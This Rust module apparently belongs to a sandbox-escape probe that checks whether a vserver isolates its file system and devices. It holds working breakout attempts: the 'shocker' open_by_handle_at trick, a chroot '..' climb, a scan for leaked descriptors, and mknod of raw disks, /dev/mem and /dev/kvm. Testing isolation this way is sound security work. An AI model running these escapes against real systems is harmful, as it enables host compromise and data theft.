//! The file system: file handles ("shocker"), the chroot `..` climb, and device nodes made with mknod.

use std::os::fd::{AsRawFd, OwnedFd};
use std::os::unix::fs::MetadataExt;

use crate::sys::{self, Errno, FileHandle};
use crate::{attempt, denied, escaped, reached, refused, Attempt, Ctx, Verdict};

/// Prefix of every device node the probe makes in `/dev`, so that cleanup finds them.
const DEV_PREFIX: &str = "escape-probe-";

/// The file-system attempts.
pub fn attempts() -> Vec<Attempt> {
    vec![
        attempt("fs", "open_by_handle_at of the file system's root inode (shocker: ext4 inode 2)", shocker_inode2),
        attempt("fs", "name_to_handle_at of / then open_by_handle_at", own_root_by_handle),
        attempt("fs", "chroot to a subdirectory, climb .. and chroot .", chroot_climb),
        attempt("fs", "descriptors, working directories and roots of visible processes lead outside the tree", leaks),
        attempt(
            "fs",
            "ioctl FITHAW on the tree's file system (FIFREEZE would freeze the host's)",
            |_| match sys::open("/", libc::O_RDONLY | libc::O_DIRECTORY) {
                Ok(fd) => crate::permission_probe(
                    sys::thaw(&fd),
                    crate::Outcome::Escaped,
                    "FIFREEZE would freeze the file system the host shares",
                ),
                Err(e) => denied(format!("open /: {e}")),
            },
        ),
    ]
}

/// The device attempts.
pub fn device_attempts() -> Vec<Attempt> {
    vec![
        attempt("devices", "mknod b 7:0 (loop0) in /tmp, open and read", |c| block_node(c, &c.scratch, Disk::Loop)),
        attempt("devices", "mknod b 7:0 (loop0) in /dev, open and read", |c| block_node(c, "/dev", Disk::Loop)),
        attempt("devices", "mknod b (the disk holding /) in /tmp, read a sector", |c| {
            block_node(c, &c.scratch, Disk::Root)
        }),
        attempt("devices", "mknod b (the disk holding /) in /dev, read a sector", |c| {
            block_node(c, "/dev", Disk::Root)
        }),
        attempt("devices", "mknod c 10:232 (/dev/kvm) in /dev and open", |_| char_node("kvm", 10, 232)),
        attempt("devices", "mknod c 1:1 (/dev/mem) in /dev and open", |_| char_node("mem", 1, 1)),
    ]
}

/// Removes what attempts may have left when one died half way: device nodes in `/dev`, the scratch tree.
pub fn cleanup(ctx: &Ctx) {
    if let Ok(entries) = std::fs::read_dir("/dev") {
        for e in entries.flatten() {
            if e.file_name().to_string_lossy().starts_with(DEV_PREFIX) {
                let _ = std::fs::remove_file(e.path());
            }
        }
    }
    let _ = std::fs::remove_dir_all(&ctx.scratch);
}

fn fstat_ids(fd: &OwnedFd) -> Option<(u64, u64)> {
    std::fs::metadata(format!("/proc/self/fd/{}", fd.as_raw_fd())).ok().map(|m| (m.dev(), m.ino()))
}

/// Lists a directory opened by handle (through its /proc/self/fd link) and says whether it lies outside the
/// vserver's root.
fn judge_opened_dir(ctx: &Ctx, fd: &OwnedFd, how: &str) -> Verdict {
    let names: Vec<String> = std::fs::read_dir(format!("/proc/self/fd/{}", fd.as_raw_fd()))
        .map(|d| d.flatten().map(|e| e.file_name().to_string_lossy().into_owned()).collect())
        .unwrap_or_default();
    let mut shown = names.clone();
    shown.sort();
    shown.truncate(8);
    match fstat_ids(fd) {
        Some(ids) if ids != ctx.root => {
            escaped(format!("{how}: a directory outside the vserver's root, holding {}", shown.join(" ")))
        }
        _ => escaped(format!(
            "{how}: the vserver's own root, but any inode of its file system opens the same way ({} entries)",
            names.len()
        )),
    }
}

fn shocker_inode2(ctx: &Ctx) -> Verdict {
    let mount_fd = match sys::open("/", libc::O_RDONLY | libc::O_DIRECTORY) {
        Ok(fd) => fd,
        Err(e) => return denied(format!("open /: {e}")),
    };
    let mut h = FileHandle::empty();
    h.handle_bytes = 8;
    h.handle_type = 1; // FILEID_INO32_GEN: inode, generation
    h.f_handle[..4].copy_from_slice(&2u32.to_ne_bytes());
    match sys::open_by_handle(&mount_fd, &h, libc::O_DIRECTORY) {
        Err(e) if refused(e) => denied(e.name()),
        // The capability was there, but the file system does not know this handle (not ext4).
        Err(e) => reached(format!("{e}: permitted, but this file system has no such handle")),
        Ok(fd) => judge_opened_dir(ctx, &fd, "opened inode 2"),
    }
}

fn own_root_by_handle(ctx: &Ctx) -> Verdict {
    let h = match sys::name_to_handle("/") {
        Ok(h) => h,
        Err(e) if refused(e) => return denied(format!("name_to_handle_at: {e}")),
        Err(e) => return reached(format!("name_to_handle_at: {e}")),
    };
    let mount_fd = match sys::open("/", libc::O_RDONLY | libc::O_DIRECTORY) {
        Ok(fd) => fd,
        Err(e) => return denied(format!("open /: {e}")),
    };
    match sys::open_by_handle(&mount_fd, &h, libc::O_DIRECTORY) {
        Err(e) if refused(e) => denied(format!("open_by_handle_at: {e} (handle type {})", h.handle_type)),
        Err(e) => reached(format!("open_by_handle_at: {e}")),
        Ok(fd) => judge_opened_dir(ctx, &fd, &format!("handle type {} opened", h.handle_type)),
    }
}

fn chroot_climb(ctx: &Ctx) -> Verdict {
    let jail = format!("{}/chroot", ctx.scratch);
    if let Err(e) = std::fs::create_dir_all(&jail) {
        return reached(format!("mkdir {jail}: {e}"));
    }
    if let Err(e) = std::os::unix::fs::chroot(&jail) {
        let _ = std::fs::remove_dir(&jail);
        return denied(format!("chroot: {e}"));
    }
    // The working directory stays where it was (outside the new root): climb from there.
    for _ in 0..64 {
        let _ = std::env::set_current_dir("..");
    }
    let result = std::os::unix::fs::chroot(".");
    let after = std::fs::metadata("/").map(|m| (m.dev(), m.ino()));
    let names: Vec<String> = std::fs::read_dir("/")
        .map(|d| d.flatten().map(|e| e.file_name().to_string_lossy().into_owned()).take(8).collect())
        .unwrap_or_default();
    // The jail is removed by the probe's cleanup (this child's root is no longer the vserver's).
    match (result, after) {
        (Err(e), _) => denied(format!("chroot .: {e}")),
        (Ok(()), Ok(ids)) if ids != ctx.root => escaped(format!("climbed out to a root holding {}", names.join(" "))),
        (Ok(()), _) => denied("the climb stops at the vserver's root"),
    }
}

/// Whether the directory at `path` lies under the vserver's root: climbing `..` from it meets the root, or
/// it reaches a top (`..` is itself) without meeting it. Unreadable counts as inside (nothing to use).
fn dir_inside(path: &str, root: (u64, u64)) -> bool {
    let mut p = path.to_string();
    let mut last = None;
    for _ in 0..256 {
        let Ok(m) = std::fs::metadata(&p) else { return true };
        let id = (m.dev(), m.ino());
        if id == root {
            return true;
        }
        if last == Some(id) {
            return false;
        }
        last = Some(id);
        p.push_str("/..");
    }
    true
}

/// Every working directory, root and open file or directory of every visible process. A directory outside
/// the tree (a descriptor the host left open, as in runc's CVE-2024-21626) is a way out: everything under it
/// can be opened relative to it. A regular file outside the tree gives only that file (the console log the
/// host hands to the vserver's services is one): reached.
fn leaks(ctx: &Ctx) -> Verdict {
    let pids: Vec<String> = std::fs::read_dir("/proc")
        .map(|d| {
            d.flatten()
                .filter_map(|e| e.file_name().to_str().filter(|n| n.parse::<u32>().is_ok()).map(str::to_string))
                .collect()
        })
        .unwrap_or_default();
    let (mut checked, mut closed) = (0, 0);
    let (mut dirs, mut files) = (Vec::new(), Vec::new());
    for pid in &pids {
        let mut links = vec![format!("/proc/{pid}/cwd"), format!("/proc/{pid}/root")];
        match std::fs::read_dir(format!("/proc/{pid}/fd")) {
            Ok(d) => links.extend(d.flatten().map(|e| e.path().to_string_lossy().into_owned())),
            Err(_) => closed += 1,
        }
        for link in links {
            let Ok(meta) = std::fs::metadata(&link) else { continue };
            checked += 1;
            let target = || std::fs::read_link(&link).map(|t| t.display().to_string()).unwrap_or_default();
            if meta.is_dir() && !dir_inside(&link, ctx.root) {
                let mut names: Vec<String> = std::fs::read_dir(&link)
                    .map(|d| d.flatten().map(|e| e.file_name().to_string_lossy().into_owned()).collect())
                    .unwrap_or_default();
                names.sort();
                names.truncate(5);
                dirs.push(format!("{link} -> {} (holding {})", target(), names.join(" ")));
            } else if meta.is_file() {
                // The path it shows must name the same file from inside.
                let same = std::fs::read_link(&link)
                    .ok()
                    .and_then(|t| std::fs::metadata(t).ok())
                    .is_some_and(|m| (m.dev(), m.ino()) == (meta.dev(), meta.ino()));
                if !same {
                    files.push(format!("{link} -> {}", target()));
                }
            }
        }
    }
    dirs.truncate(6);
    files.sort_by_key(|f| f.rsplit(" -> ").next().map(str::to_string));
    files.dedup_by(|a, b| a.rsplit(" -> ").next() == b.rsplit(" -> ").next());
    if !dirs.is_empty() {
        escaped(format!("directories outside the tree: {}", dirs.join(", ")))
    } else if !files.is_empty() {
        reached(format!("only files outside the tree, no directory: {}", files.join(", ")))
    } else {
        denied(format!("{checked} links checked, all inside; {closed} processes' descriptors not readable"))
    }
}

/// Which block device to make.
#[derive(Clone, Copy)]
enum Disk {
    /// 7:0, the first loop device.
    Loop,
    /// The device of the file system holding `/`.
    Root,
}

/// The device numbers of the disk holding `/`: from the vserver's mountinfo, else (for a root on a virtual
/// file system) the first disk the kernel lists in /proc/partitions.
fn root_disk() -> Option<(u32, u32, String)> {
    let mountinfo = std::fs::read_to_string("/proc/self/mountinfo").unwrap_or_default();
    for line in mountinfo.lines() {
        let f: Vec<&str> = line.split_whitespace().collect();
        if f.len() > 4 && f[4] == "/" {
            if let Some((ma, mi)) = f[2].split_once(':') {
                if let (Ok(ma), Ok(mi)) = (ma.parse::<u32>(), mi.parse::<u32>()) {
                    if ma != 0 {
                        return Some((ma, mi, "the device of /".into()));
                    }
                }
            }
        }
    }
    let partitions = std::fs::read_to_string("/proc/partitions").unwrap_or_default();
    partitions.lines().skip(2).find_map(|l| {
        let f: Vec<&str> = l.split_whitespace().collect();
        (f.len() == 4 && !f[3].starts_with("loop") && !f[3].starts_with("ram"))
            .then(|| Some((f[0].parse().ok()?, f[1].parse().ok()?, format!("{} from /proc/partitions", f[3]))))
            .flatten()
    })
}

fn block_node(_ctx: &Ctx, dir: &str, disk: Disk) -> Verdict {
    let (major, minor, what) = match disk {
        Disk::Loop => (7, 0, "loop0".to_string()),
        Disk::Root => match root_disk() {
            Some(d) => d,
            None => return denied("no disk found under / nor in /proc/partitions"),
        },
    };
    let path = format!("{dir}/{DEV_PREFIX}b{major}-{minor}");
    let _ = std::fs::remove_file(&path);
    if let Err(e) = sys::mknod(&path, true, major, minor) {
        return if refused(e) { denied(format!("mknod {major}:{minor}: {e}")) } else { reached(format!("mknod: {e}")) };
    }
    let verdict = match sys::open(&path, libc::O_RDONLY) {
        Err(e) if refused(e) => denied(format!("mknod {major}:{minor} made, open: {e}")),
        Err(e) => reached(format!("{what} ({major}:{minor}) opened by nothing: {e}")),
        Ok(fd) => {
            let mut sector = [0u8; 512];
            match sys::read(&fd, &mut sector) {
                Ok(0) => reached(format!("{what} ({major}:{minor}) opened read-only, empty")),
                Ok(n) => escaped(format!(
                    "read {n} bytes of {what} ({major}:{minor}), {} non-zero",
                    sector[..n].iter().filter(|&&b| b != 0).count()
                )),
                Err(e) => reached(format!("{what} ({major}:{minor}) opened read-only, read: {e}")),
            }
        }
    };
    let _ = std::fs::remove_file(&path);
    verdict
}

fn char_node(name: &str, major: u32, minor: u32) -> Verdict {
    let path = format!("/dev/{DEV_PREFIX}{name}");
    let _ = std::fs::remove_file(&path);
    if let Err(e) = sys::mknod(&path, false, major, minor) {
        return if refused(e) { denied(format!("mknod: {e}")) } else { reached(format!("mknod: {e}")) };
    }
    // Opened read-only and closed at once: nothing is read from /dev/mem, no VM is made on /dev/kvm.
    let verdict = match sys::open(&path, libc::O_RDONLY) {
        Err(e) if refused(e) => denied(format!("mknod made, open: {e}")),
        Err(Errno(libc::ENXIO | libc::ENODEV | libc::ENOENT)) => {
            reached("made and not refused, but no such device on this host")
        }
        Err(e) => reached(format!("open: {e}")),
        Ok(_fd) => escaped(format!("/dev/{name} ({major}:{minor}) opened")),
    };
    let _ = std::fs::remove_file(&path);
    verdict
}
